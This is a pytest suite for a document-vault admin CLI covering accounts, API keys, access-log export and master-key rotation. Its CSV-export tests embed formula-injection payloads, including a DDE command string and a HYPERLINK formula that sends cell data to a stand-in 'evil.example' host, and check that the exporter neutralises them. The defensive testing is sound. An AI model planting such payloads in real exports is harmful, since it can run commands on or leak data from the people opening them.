"""vault-admin, run as a real process against the same data as a running vaultd."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from tests import documents as docs
from tests.cli_errors import one_line_error
from tests.http_helpers import create_link, upload_ok
from tests.vault_process import VaultProcess
from vaultd.services.common.spreadsheet import safe_cell

pytestmark = pytest.mark.slow  # starts its own servers (see docs/testing.md)

COLUMNS = ["at", "fileId", "action", "viewerEmail", "ip", "page"]  # spec 2.4, in this order


def test_accounts_are_created_listed_shown_and_changed(vault: VaultProcess) -> None:
    created = vault.admin_json("accounts", "create", "Globex Ltd", "--plan", "business")
    assert created["name"] == "Globex Ltd" and created["plan"] == "business"
    listed = vault.admin_json("accounts", "list")
    assert any(a["id"] == created["id"] for a in listed)
    shown = vault.admin_json("accounts", "show", created["id"])
    assert shown["plan"]["maxDocuments"] is None
    assert shown["usage"] == {"documents": 0, "storageBytes": 0, "activeLinks": 0, "apiKeys": 0}
    assert vault.admin_json("accounts", "set-plan", created["id"], "free")["plan"] == "free"
    branded = vault.admin_json("accounts", "set-branding", created["id"], "Globex Legal")
    assert branded["branding"] == "Globex Legal" and branded["brand"] == "Globex Ltd"
    vault.admin("accounts", "set-plan", created["id"], "pro")
    assert vault.admin_json("accounts", "show", created["id"])["brand"] == "Globex Legal"


def test_text_output_is_key_value_for_one_record_and_columns_for_a_list(
    vault: VaultProcess,
) -> None:
    created = vault.admin("accounts", "create", "Plain Text Inc").stdout.splitlines()
    assert created[1:] == ["name:     Plain Text Inc", "plan:     free", "branding: -",
                           "brand:    Plain Text Inc"]
    account_id = created[0].removeprefix("id:").strip()
    listed = vault.admin("accounts", "list").stdout.splitlines()
    assert listed[0].split() == ["id", "name", "plan", "branding", "brand"]
    row = next(line for line in listed if line.startswith(account_id))
    assert row.split()[1:] == ["Plain", "Text", "Inc", "free", "-", "Plain", "Text", "Inc"]
    shown = vault.admin("accounts", "show", account_id).stdout
    assert "\nplan.name:" in shown and "\nusage.documents:" in shown
    assert "usage.documents:      0" in shown and "plan.accessLogExport: no" in shown
    for text in (created, listed, shown):
        assert "None" not in str(text) and "{" not in str(text) and "True" not in str(text)


def test_a_key_is_printed_once_works_and_is_never_listed(vault: VaultProcess) -> None:
    account = vault.admin_json("accounts", "create", "Keyed Co")
    created = vault.admin_json("keys", "create", account["id"])
    vault.secrets.append(created["key"])
    assert created["key"].startswith("sd_live_") and len(created["key"]) == 51
    with vault.client(created["key"]) as client:
        assert client.get("/account").json()["id"] == account["id"]
    listed = vault.admin("--json", "keys", "list", account["id"]).stdout
    assert created["key"] not in listed
    assert json.loads(listed)[0]["id"] == created["id"]
    assert vault.admin_json("keys", "revoke", created["id"])["revokedAt"]
    with vault.client(created["key"]) as client:
        assert client.get("/account").status_code == 401


def test_the_plan_key_limit_is_enforced(vault: VaultProcess) -> None:
    account = vault.admin_json("accounts", "create", "Two Keys Co")
    for _ in range(2):
        vault.secrets.append(vault.admin_json("keys", "create", account["id"])["key"])
    line = one_line_error(vault.admin("keys", "create", account["id"], expect_ok=False))
    assert "Free" in line and "2" in line


@pytest.mark.parametrize("args", [
    ("accounts", "show", "00000000-0000-0000-0000-000000000000"),
    ("accounts", "create", "X", "--plan", "platinum"),
    ("accounts", "set-plan", "nope", "pro"),
    ("keys", "revoke", "key_doesnotexist"),
    ("keys", "create", "nope"),
])
def test_errors_are_one_line_and_exit_1(vault: VaultProcess, args: tuple[str, ...]) -> None:
    one_line_error(vault.admin(*args, expect_ok=False))


def test_log_export_needs_the_business_plan(vault: VaultProcess) -> None:
    account_id, _ = vault.new_account("Pro Only", plan="pro")
    line = one_line_error(vault.admin("log", "export", account_id, expect_ok=False))
    assert "Business" in line


def every_kind_of_entry(vault: VaultProcess, account_id: str, key: str) -> dict[str, str]:
    """A log with an entry of each action, and one written by an older release (a coalesced
    view with `count` and `firstAt`, fields the export does not know); the two files' ids."""
    with vault.client(key) as api:
        kept = upload_ok(api, docs.pdf(), kind="delivery")
        gone = upload_ok(api, docs.png())
        token = create_link(api, kept["id"], email="reader@example.com")["token"]
        vault.secrets.append(token)
        viewer = {"x-viewer-ip": "203.0.113.5"}
        assert api.get(f"/views/{token}", headers=viewer).status_code == 200
        page = api.get(f"/views/{token}/pages/1", headers=viewer)
        assert page.status_code == 200
        traced = api.post("/trace", content=page.content, timeout=120,
                          headers={"Content-Type": "image/jpeg"})
        assert traced.status_code == 200 and traced.json()["found"] is True, traced.text
        email = {"x-viewer-email": "a@b.example"}
        assert api.get(f"/files/{kept['id']}/download", headers=email).status_code == 200
        assert api.post(f"/files/{kept['id']}/revoke-views").json() == {"revoked": 1}
        assert api.delete(f"/files/{gone['id']}").status_code == 204

    async def legacy(db: Any) -> None:
        at = datetime.now(UTC)
        await db.access_log.insert_one({
            "_id": "view-legacy", "accountId": account_id, "fileId": kept["id"],
            "action": "view", "at": at, "firstAt": at - timedelta(seconds=30), "count": 3,
            "viewerEmail": "reader@example.com", "ip": "203.0.113.5"})

    vault.run_service(legacy)
    return {"kept": kept["id"], "gone": gone["id"]}


def test_log_export_writes_every_kind_of_entry_as_jsonl_and_csv(vault: VaultProcess) -> None:
    account_id, key = vault.new_account("Big Co", plan="business")
    files = every_kind_of_entry(vault, account_id, key)
    lines = vault.admin("log", "export", account_id).stdout.splitlines()
    entries = [json.loads(line) for line in lines]
    assert sorted(e["action"] for e in entries) == sorted(
        ["upload", "upload", "view", "view", "page", "trace", "download", "revoke", "delete"])
    assert all(set(e) <= set(COLUMNS) for e in entries), entries  # no count, firstAt, renderId
    by_action = {e["action"]: e for e in entries}
    assert by_action["page"]["page"] == 1 and by_action["page"]["ip"] == "203.0.113.5"
    assert by_action["download"]["viewerEmail"] == "a@b.example"
    assert by_action["delete"]["fileId"] == files["gone"]

    exported = vault.admin("log", "export", account_id, "--format", "csv").stdout
    assert exported.splitlines()[0] == ",".join(COLUMNS)
    rows = list(csv.DictReader(io.StringIO(exported)))
    as_text = [{name: str(e.get(name, "")) for name in COLUMNS} for e in entries]
    assert sorted(rows, key=repr) == sorted(as_text, key=repr)


# Valid addresses (RFC 5322 atext) a viewer can give, each a formula in a spreadsheet.
FORMULA_EMAILS = {"view": "=cmd|'/c_calc'!A0@evil.example", "download": "+1-2@evil.example",
                  "page": "-2+3@evil.example"}


def test_log_export_csv_writes_formula_like_values_as_text(vault: VaultProcess) -> None:
    account_id, key = vault.new_account("Sheet Co", plan="business")
    with vault.client(key) as api:
        file_id = upload_ok(api, docs.pdf(), kind="delivery")["id"]  # downloadable
        view = create_link(api, file_id, email=FORMULA_EMAILS["view"])["token"]
        page = create_link(api, file_id, email=FORMULA_EMAILS["page"],
                           viewerName='=HYPERLINK("https://evil.example/?"&A1,"open")')["token"]
        vault.secrets += [view, page]
        assert api.get(f"/views/{view}").status_code == 200
        assert api.get(f"/views/{page}/pages/1").status_code == 200
        email = {"x-viewer-email": FORMULA_EMAILS["download"]}
        assert api.get(f"/files/{file_id}/download", headers=email).status_code == 200
    entries = [json.loads(line) for line in vault.admin("log", "export", account_id).stdout
               .splitlines()]
    emails = {e["action"]: e.get("viewerEmail") for e in entries}
    assert {action: emails[action] for action in FORMULA_EMAILS} == FORMULA_EMAILS  # as given
    exported = vault.admin("log", "export", account_id, "--format", "csv").stdout
    assert "HYPERLINK" not in exported  # the viewer's name is not a column of the export
    rows = {row["action"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert {action: rows[action]["viewerEmail"] for action in FORMULA_EMAILS} == {
        action: "'" + email for action, email in FORMULA_EMAILS.items()}
    assert rows["upload"]["viewerEmail"] == "" and rows["page"]["page"] == "1"
    for row in rows.values():  # no cell a spreadsheet would evaluate
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for cell in row.values()), row


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_owasp_names_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["reader@example.com", "2026-11-26T10:00:00.000Z", "a=b",
                                   "203.0.113.5", "::1", "", 1, None])
def test_other_values_are_written_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_master_key_rotation_rewraps_without_touching_blobs(vault: VaultProcess,
                                                            api: httpx.Client) -> None:
    data = docs.pdf(pages=2)
    created = upload_ok(api, data, kind="delivery")
    blob = (vault.data_dir / "blobs" / created["id"]).read_bytes()
    before = (vault.data_dir / "master.key").read_text()
    result = vault.admin_json("master-key", "rotate")
    assert result["rewrapped"] >= 1 and len(result["keyIds"]) >= 2
    after = (vault.data_dir / "master.key").read_text()
    assert after != before
    assert result["currentKeyId"] not in before
    assert (vault.data_dir / "blobs" / created["id"]).read_bytes() == blob
    # the running vaultd picks up the new keyring on its own
    assert api.get(f"/files/{created['id']}/download").content == data
    sealed_before = vault.mark_cipher().seal(12345)
    layout_before = vault.mark_cipher().layout_key
    kept_before = result["keyIds"]
    said = vault.admin("master-key", "rotate", "--drop-old").stdout
    # The operator is told what was dropped and what that means for older backups.
    assert "dropped the old master keys" in said and all(key in said for key in kept_before)
    assert "backups made before now need a copy of the old key file" in said
    plain = vault.admin("master-key", "rotate").stdout
    assert "dropped" not in plain and "re-wrapped" in plain
    dropped = vault.admin_json("master-key", "rotate", "--drop-old")
    assert dropped["keyIds"] == [dropped["currentKeyId"]] and dropped["droppedKeyIds"]
    assert api.get(f"/files/{created['id']}/download").content == data
    assert (vault.data_dir / "master.key").stat().st_mode & 0o777 == 0o600
    # The invisible mark's key was rewrapped too: the same key, now under the new master key.
    assert vault.mark_cipher().seal(12345) == sealed_before
    assert vault.mark_cipher().layout_key == layout_before  # pages served before still read


def test_the_cli_starts_its_own_database_when_vaultd_is_not_running(tmp_path) -> None:
    offline = VaultProcess(tmp_path / "offline")
    offline.admin("init")
    created = offline.admin_json("accounts", "create", "Offline Co")
    assert offline.admin_json("accounts", "show", created["id"])["name"] == "Offline Co"
    assert not (offline.data_dir / "db" / "address.json").exists()
